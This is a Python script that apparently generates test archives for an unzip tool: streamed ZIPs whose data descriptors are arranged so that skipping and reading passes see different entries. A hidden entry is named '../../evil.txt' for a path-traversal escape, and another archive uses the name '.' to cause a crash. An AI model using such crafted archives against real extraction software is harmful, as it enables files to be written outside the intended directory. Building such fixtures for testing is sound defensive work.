#!/usr/bin/env python3
"""Writes the two hand-made archives of this folder.

Both are streamed ZIPs (no central directory) whose first entry is stored
with its sizes in a data descriptor. Skipping that entry stops at the first
"PK\\x07\\x08" in its data, whatever the CRC there; reading it stops only at
a descriptor whose CRC matches. The bytes between are therefore an entry
("safe.txt") to one reading and data to the other, and what follows the
real descriptor is an entry only the reading pass sees.

    craft_unzip_escapes.py OUT.zip HIDDEN-NAME
    craft_unzip_escapes.py unzip-escape-data-descriptor.zip ../../evil.txt
    craft_unzip_escapes.py unzip-empty-name-crash.zip .
"""
import struct
import sys
import zlib


def local_header(name, flags, csize, usize, crc):
    n = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 0, 0, 0, crc, csize, usize,
                       len(n), 0) + n


def build(hidden_name, payload=b"escaped\n"):
    head = b"x"
    decoy_descriptor = struct.pack("<4sIII", b"PK\x07\x08", 0xDEADBEEF, 1, 1)
    hidden = local_header(hidden_name, 0, len(payload), len(payload), zlib.crc32(payload)) + payload
    filler = b"y" * 4
    # safe.txt's data runs over the real descriptor and the hidden entry.
    safe_len = len(filler) + 16 + len(hidden)
    safe = local_header("safe.txt", 0, safe_len, safe_len, 0)
    first_data = head + decoy_descriptor + safe + filler
    crc = zlib.crc32(first_data)
    descriptor = struct.pack("<4sIII", b"PK\x07\x08", crc, len(first_data), len(first_data))
    safe_data = filler + descriptor + hidden
    safe = local_header("safe.txt", 0, len(safe_data), len(safe_data), zlib.crc32(safe_data))
    first_data = head + decoy_descriptor + safe + filler
    crc = zlib.crc32(first_data)
    descriptor = struct.pack("<4sIII", b"PK\x07\x08", crc, len(first_data), len(first_data))
    first = local_header("a.txt", 0x08, 0, 0, 0)  # sizes in the descriptor
    end = b"PK\x01\x02" + b"\x00" * 40
    return first + first_data + descriptor + hidden + end


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    with open(sys.argv[1], "wb") as f:
        f.write(build(sys.argv[2]))
